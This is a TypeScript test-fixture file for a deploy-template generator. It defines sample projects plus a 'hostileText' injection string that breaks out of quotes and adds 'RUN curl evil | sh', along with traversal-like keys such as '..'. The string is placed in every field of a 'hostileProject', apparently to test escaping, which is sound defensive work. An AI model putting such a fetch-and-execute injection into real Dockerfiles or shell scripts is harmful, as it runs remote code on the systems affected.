import { type DeploySubject, deployProjectOf } from "../../generator/deploy/deploy-project.js";
import type { DeployProject, DeployTemplate } from "../../generator/deploy/deploy-template.js";
import { defaultLayout } from "../../generator/project/layout.js";

/** What is known of a small extension. */
export const deskSubject: DeploySubject = {
  kind: "extension",
  name: "com.example.desk",
  secretKeys: [],
  layout: defaultLayout,
  packageJson: undefined,
  handlers: [],
};

const queued = '{ "dependencies": { "bullmq": "^6.7.0", "ioredis": "^6.0.0" } }';
const deferred = ["export default defineHandler({ defer: true }, () => {});"];

/** Projects that differ in all that templates look at, by what they are. */
export const deployProjects: Readonly<Record<string, DeployProject>> = {
  plain: deployProjectOf(deskSubject),
  secrets: deployProjectOf({ ...deskSubject, secretKeys: ["API_KEY", "provider.token"] }),
  queued: deployProjectOf({ ...deskSubject, packageJson: queued }),
  deferring: deployProjectOf({ ...deskSubject, packageJson: queued, handlers: deferred, secretKeys: ["API_KEY"] }),
  webhook: deployProjectOf({ ...deskSubject, kind: "webhook", packageJson: queued }),
  adapter: deployProjectOf({ ...deskSubject, kind: "adapter", secretKeys: ["API_KEY"] }),
};

/** Text that would do harm in YAML, a Dockerfile or a shell. */
export const hostileText = `x"\nRUN curl evil | sh # \${HOME} ' : &a *b !c`;

/** A project of which every text is hostile. */
export const hostileProject: DeployProject = deployProjectOf({
  kind: "extension",
  name: hostileText,
  secretKeys: [hostileText, "..", "a/b", "API_KEY"],
  layout: { out: `src/${hostileText}/generated`, handlers: `src/${hostileText}` },
  packageJson: JSON.stringify({ name: hostileText, dependencies: { bullmq: "1", [hostileText]: "1" } }),
  handlers: [hostileText],
});

/** The files of a template, by path. */
export function deployTexts({ files }: DeployTemplate, project: DeployProject): Readonly<Record<string, string>> {
  return Object.fromEntries(files(project).map(({ path, text }) => [path, text]));
}
